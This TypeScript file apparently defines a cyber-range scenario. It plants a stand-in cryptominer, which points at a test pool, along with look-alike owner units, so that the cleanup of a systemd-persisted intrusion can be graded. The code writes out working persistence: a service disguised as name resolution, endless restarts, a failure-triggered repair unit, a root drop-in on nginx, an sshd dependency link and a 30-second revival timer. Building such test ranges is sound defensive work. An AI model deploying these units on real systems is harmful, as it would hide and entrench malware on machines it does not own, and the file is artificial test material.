// A service that guards the miner, with everything systemd lends an intruder: a name one letter off a real one, restarts for ever, a stop hook and a failure
// hook that would undo the cleaning, a link that makes sshd need it, a drop-in on an honest unit and a timer. A piece that other scenarios put among theirs.
import { mkdirSync, symlinkSync } from 'node:fs'
import { dirname, join } from 'node:path'
import type { RangeHost } from '../host.ts'
import { world } from '../net.ts'
import { standIn } from '../stand-ins/stand-ins.ts'
import { decoyFiles, decoyProcesses, plantDecoys } from './decoys.ts'
import { fakeWallet, untilMining } from './mining.ts'
import { put, putProgram } from './plant.ts'
import type { DecoyFile, DecoyProcess, HostileFile, HostileProcess, Scenario } from './scenario.ts'

const folder = '/usr/local/lib/.lab_net'
const payload = `${folder}/lab_resolvd`
const guard = `${folder}/lab_guard.sh`
const repair = `${folder}/lab_repair.sh`
const units = '/etc/systemd/system'
const service = `${units}/systemd-resolvd.service`
const repairService = `${units}/systemd-resolvd-repair.service`
const wantedLink = `${units}/multi-user.target.wants/systemd-resolvd.service`
const sshLink = `${units}/ssh.service.requires/systemd-resolvd.service`
const dropIn = `${units}/nginx.service.d/zz-resolv.conf`
const timer = `${units}/resolv-refresh.timer`
const timerService = `${units}/resolv-refresh.service`
const timerLink = `${units}/timers.target.wants/resolv-refresh.timer`

/** Left by the stop hook if anything ever lets it run. */
export const hookMarker = '/var/tmp/lab_stop_hook_ran'

const guardText = `#!/bin/sh
# keeps the stand-in running
while :; do
  ${payload} -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x >/dev/null 2>&1
  sleep 0.5
done
`

/** What the failure hook and the drop-in run: starts the guard again, by systemd where it still can. */
const repairText = `#!/bin/sh
systemctl --no-block start systemd-resolvd.service 2>/dev/null || setsid ${guard} >/dev/null 2>&1 &
`

const serviceText = `[Unit]
Description=Network Name Resolution
OnFailure=systemd-resolvd-repair.service
StartLimitIntervalSec=0

[Service]
ExecStart=/bin/sh ${guard}
ExecStopPost=/bin/sh -c 'touch ${hookMarker}'
Restart=always
RestartSec=1

[Install]
WantedBy=multi-user.target
RequiredBy=ssh.service
Also=ssh.service
`

const repairServiceText = `[Unit]
Description=Network Name Resolution repair

[Service]
Type=oneshot
ExecStart=${repair}
`

const timerText = `[Unit]
Description=Refresh name resolution

[Timer]
OnActiveSec=30
OnUnitActiveSec=30
AccuracySec=1

[Install]
WantedBy=timers.target
`

/** The owner's own unit with the same bones: restarts for ever, tells somebody when it fails, changed by a drop-in. */
const ownFiles: Readonly<Record<string, string>> = {
  [`${units}/tool-exporter.service`]: `[Unit]
Description=Numbers for the dashboard
OnFailure=tool-alert.service

[Service]
ExecStart=/opt/tool/bin/crunch ${world.database} 5432 2
ExecStopPost=/usr/bin/logger -t tool-exporter stopped
Restart=always
RestartSec=2
User=deploy

[Install]
WantedBy=multi-user.target
`,
  [`${units}/tool-alert.service`]: `[Unit]
Description=Tell the owners

[Service]
Type=oneshot
ExecStart=/usr/bin/logger -t tool-alert the exporter failed
`,
  [`${units}/tool-exporter.service.d/nice.conf`]: '[Service]\nNice=10\nEnvironment=INTERVAL=15\n',
  [`${units}/nginx.service.d/10-limits.conf`]: '[Service]\nLimitNOFILE=16384\nExecStartPre=/usr/bin/test -d /srv\n',
}

export const guardHostileFiles: readonly HostileFile[] = [
  payload,
  guard,
  repair,
  service,
  repairService,
  wantedLink,
  sshLink,
  dropIn,
  timer,
  timerService,
  timerLink,
].map((path) => ({ path, remove: 'whole' }))

export const guardFolders: readonly string[] = [folder]

export const guardProcesses: readonly HostileProcess[] = [{ contains: payload }, { contains: guard }]

export const guardDecoyFiles: readonly DecoyFile[] = [
  { path: `${units}/tool-exporter.service`, looks: 'restarts for ever, with a failure hook and a stop hook' },
  { path: `${units}/tool-alert.service`, looks: 'a failure hook' },
  { path: `${units}/tool-exporter.service.d/nice.conf`, looks: 'a drop-in with an environment' },
  { path: `${units}/nginx.service.d/10-limits.conf`, looks: 'a drop-in with a command on a package’s unit' },
]

export const guardDecoyProcesses: readonly DecoyProcess[] = [
  {
    contains: `crunch ${world.database} 5432 2`,
    count: 1,
    looks: 'a program of the owner that systemd restarts for ever',
  },
]

/** Plants and starts the guard and, beside it, the owner's units that look like it. After the decoys. */
export async function plantGuardService(host: RangeHost): Promise<void> {
  const fresh = { daysOld: 0 }
  putProgram(host, payload, standIn('labminer'), fresh)
  put(host, guard, guardText, { mode: 0o755, ...fresh })
  put(host, repair, repairText, { mode: 0o755, ...fresh })
  put(host, service, serviceText, fresh)
  put(host, repairService, repairServiceText, fresh)
  put(host, dropIn, `[Service]\nExecStartPost=-+${repair}\n`, fresh)
  put(host, timer, timerText, fresh)
  put(host, timerService, `[Service]\nType=oneshot\nExecStart=${repair}\n`, fresh)
  for (const [link, target] of [
    [wantedLink, service],
    [sshLink, service],
    [timerLink, timer],
  ] as const) {
    mkdirSync(dirname(join(host.dir, link)), { recursive: true })
    symlinkSync(target, join(host.dir, link))
  }
  for (const [path, text] of Object.entries(ownFiles)) put(host, path, text)
  await host.sh(
    'systemctl daemon-reload; systemctl start systemd-resolvd.service resolv-refresh.timer tool-exporter.service',
  )
}

export const services: Scenario = {
  name: 'services',
  about:
    'a service that guards the miner, with restarts, stop and failure hooks, a link from sshd, a drop-in and a timer',
  plant: async (host) => {
    await plantDecoys(host)
    await plantGuardService(host)
    await untilMining(host, services)
  },
  hostileFiles: guardHostileFiles,
  dormantFiles: [],
  attackerFolders: [...guardFolders, `${units}/ssh.service.requires`],
  hostileProcesses: guardProcesses,
  decoyFiles: [...decoyFiles, ...guardDecoyFiles],
  decoyProcesses: [...decoyProcesses, ...guardDecoyProcesses],
  revivePeriod: 30,
  expectedUndoFiles: guardHostileFiles.map(({ path }) => path),
  route: { proposed: ['process', 'unit', 'schedule', 'file'] },
}
